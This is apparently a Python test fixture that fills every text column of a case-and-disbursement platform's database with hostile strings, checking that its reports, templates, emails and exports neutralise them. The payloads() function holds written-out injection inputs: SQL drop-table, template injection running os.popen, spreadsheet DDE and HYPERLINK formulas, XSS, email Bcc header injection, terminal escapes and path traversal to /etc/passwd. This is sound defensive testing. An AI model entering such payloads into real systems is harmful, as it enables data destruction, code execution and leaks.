"""Texts that people could type into the platform to make our output do something, and a company full of them.

Every text column of the platform's tables is found in the ORM, so that a new column is planted by itself; a new table
needs its line in `ROWS`, and a test fails until it has one.
"""

import itertools
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from psycopg.errors import CheckViolation
from sqlalchemy import Text
from sqlalchemy.exc import IntegrityError

from seedtrust_ops.orchestration.schedules import office_today
from seedtrust_ops.tables import (
    CaseParty,
    DisbursementRequest,
    ErrorRecord,
    HuntingtonBatch,
    JobRun,
    LedgerEntry,
    PlatformTable,
    ReportRequest,
    User,
)
from seedtrust_ops_tests.support.factories import BuiltCase, Company
from seedtrust_ops_tests.support.office_factory import Office, OfficeCase

FORMATS = ("csv", "xlsx", "pdf")
_DUE = {"amount_cents": 100, "category": "travel", "auto_authorize_at": datetime.now(UTC)}
_numbers = itertools.count(1)

SUM = "1337"
"""What 7 * 191 comes to, where a template is fooled into calculating it."""


def payloads(canary: Path) -> list[str]:
    """Each begins as what a spreadsheet would calculate, and goes on with what would break out somewhere else.

    `canary` is a file that one of them would make.
    """
    sql = "'; drop table ops.alerts cascade; -- %s %(x)s :name \\"
    template = "{{ 7*191 }}{% set x = 1 %}${7*191}#{7*191}" + (
        f"{{{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}}}"
    )
    html = '"><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">pay</a>'
    markdown = "[pay](javascript:alert(1)) ![x](https://evil.example/x.png) `x` | cell |\n\n# Heading\n- <b>x"
    rich = "[red]red[/red] [link=https://evil.example]pay[/link] [/] [/b] [bold"
    header = "\r\nBcc: victim@evil.example\r\nSubject: other\r\n\r\nanother body\r\n.\r\nQUIT\r\n"
    terminal = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31mred\x08\x7f\u202egnp.exe"
    path = '../../../etc/passwd\\..\\x:"y"?*'
    pdf = ") Tj ET /JS (app.alert\\(1\\)) /URI (https://evil.example) {nb} BT ("
    workbook = "_x000D_ ]]> &amp; \x0b\x1f\ufffe"
    return [
        f'=HYPERLINK("https://evil.example/"&A1,"pay") {sql}',
        f"@SUM(1+1)*cmd|' /C calc'!A0 {template}",
        f"-2+3+cmd|' /C calc'!A0 {html}",
        f"\t=1+1 {markdown} {rich}",
        f"\r=1+1 {header}",
        f"+1+1 {terminal} {workbook}",
        f"{path} {pdf} {'x' * 2_000}",
    ]


@dataclass
class Planted:
    """A company full of hostile texts: where they are, and the rows that tests look at afterwards."""

    company: Company
    office: Office
    case: BuiltCase
    batch_id: int
    home: OfficeCase
    """A case with everybody who is told of approvals."""
    columns: set[str] = field(default_factory=set)
    constrained: set[str] = field(default_factory=set)
    """Columns that the platform's own checks let hold nothing but certain words."""
    requests: list[int] = field(default_factory=list)


def plant(company: Company, texts: Iterable[str]) -> Planted:
    """Give every text column of the platform's tables a row for each of `texts`, sound in all other columns."""
    case = company.case(balance_cents=10_000_000)
    office = Office(company.sessions)
    planted = Planted(company, office, case, company.batch(case=case), office.case())
    _ask(planted, {"kind": "case_ledger", "params": {"case_id": case.case_id}})
    for table in PlatformTable.metadata.sorted_tables:
        for column in (one for one in table.columns if isinstance(one.type, Text)):
            name = f"{table.name}.{column.name}"
            try:
                for text in texts:
                    ROWS[table.name](planted, {column.name: text})
                planted.columns.add(name)
            except IntegrityError as error:
                if not isinstance(error.orig, CheckViolation):
                    raise
                planted.constrained.add(name)
    return planted


def _user(planted: Planted, columns: dict[str, Any]) -> None:
    manager, payee = (
        planted.office._add(
            User(
                **{"email": f"{next(_numbers)}@office.test", "full_name": "Somebody", "role": role}
                | {name: f"{value}{suffix}" for name, value in columns.items()}
            )
        )
        for role, suffix in (("case_manager", ""), ("surrogate", " 2"))
    )
    case = planted.office.case(case_manager_id=manager, balance_cents=1, minimum_balance_cents=100)
    planted.requests.append(planted.office.request(case, payee_id=payee))


def _case(planted: Planted, columns: dict[str, Any]) -> None:
    case = planted.office.case(balance_cents=1, minimum_balance_cents=100, close_on=office_today(), **columns)
    planted.requests.append(planted.office.request(case))
    _ask(planted, {"kind": "case_ledger", "params": {"case_id": case.case_id}})


def _party(planted: Planted, columns: dict[str, Any]) -> None:
    with planted.company.sessions.begin() as session:
        session.add(CaseParty(case_id=planted.case.case_id, user_id=planted.case.payee_id, **columns))


def _request(planted: Planted, columns: dict[str, Any]) -> None:
    columns = {"case_id": planted.home.case_id, "payee_id": planted.home.surrogate_id} | columns
    planted.requests.append(planted.office._add(DisbursementRequest(**_DUE | columns)))


def _rule(planted: Planted, columns: dict[str, Any]) -> None:
    planted.office.rule(**columns)


def _batch(planted: Planted, columns: dict[str, Any]) -> None:
    planted.office._add(HuntingtonBatch(**{"status": "completed"} | columns))


def _transaction(planted: Planted, columns: dict[str, Any]) -> None:
    request_id = planted.company.request(planted.case, 100)
    planted.company.transaction(planted.batch_id, request_id, 100, **{"method": "ach"} | columns)


def _entry(planted: Planted, columns: dict[str, Any]) -> None:
    for cents in (500, -500):
        sound = {"account_id": planted.case.account_id, "amount_cents": cents, "kind": "fee"}
        planted.office._add(LedgerEntry(**sound | columns))


def _ask(planted: Planted, columns: dict[str, Any]) -> None:
    for format_name in FORMATS:
        sound = {"user_id": planted.case.specialist_id, "kind": "disbursements", "format": format_name}
        planted.office._add(ReportRequest(**sound | columns))


def _report(planted: Planted, columns: dict[str, Any]) -> None:
    sound = {"user_id": planted.case.specialist_id, "kind": "account_balances", "format": "csv"}
    planted.office._add(ReportRequest(**sound | columns))


def _job_run(planted: Planted, columns: dict[str, Any]) -> None:
    sound = {
        "run_id": f"run-{next(_numbers)}",
        "task_name": "example",
        "status": "ERROR",
        "resolution": "ERROR",
        "queued_at": datetime.now(UTC),
    }
    planted.office._add(JobRun(**sound | columns))


def _error(planted: Planted, columns: dict[str, Any]) -> None:
    sound = {"source": "example", "severity": "LOW", "exception_type": "Failure", "message": "it failed"}
    planted.office._add(ErrorRecord(**sound | columns))


ROWS: dict[str, Callable[[Planted, dict[str, Any]], None]] = {
    "users": _user,
    "cases": _case,
    "case_parties": _party,
    "disbursement_requests": _request,
    "approval_rules": _rule,
    "huntington_batches": _batch,
    "huntington_transactions": _transaction,
    "ledger_entries": _entry,
    "report_requests": _report,
    "job_runs": _job_run,
    "errors": _error,
}
